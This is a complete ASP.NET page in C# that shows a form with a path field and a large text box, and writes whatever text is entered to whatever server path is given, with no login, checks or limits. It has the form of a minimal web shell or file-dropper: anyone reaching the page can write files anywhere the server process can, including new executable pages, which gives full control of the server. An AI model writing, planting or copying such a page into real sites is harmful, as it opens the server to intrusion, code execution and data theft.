<%@ Page Language="C#" %>
<script runat="server">
    protected void btnSave_Click(object sender, EventArgs e)
    {
        using (var sw = new System.IO.StreamWriter(this.txtPath.Text, false, System.Text.Encoding.UTF8))
        {
            sw.Write(this.txtBody.Text);
        }
        lblMsg.Text = "saved";
    }
</script>
<form runat="server">
path: <asp:TextBox ID="txtPath" runat="server" Width="400" /><br />
<asp:TextBox ID="txtBody" runat="server" TextMode="MultiLine" Rows="20" Columns="100" /><br />
<asp:Button ID="btnSave" runat="server" Text="Save" OnClick="btnSave_Click" /> <asp:Label ID="lblMsg" runat="server" />
</form>
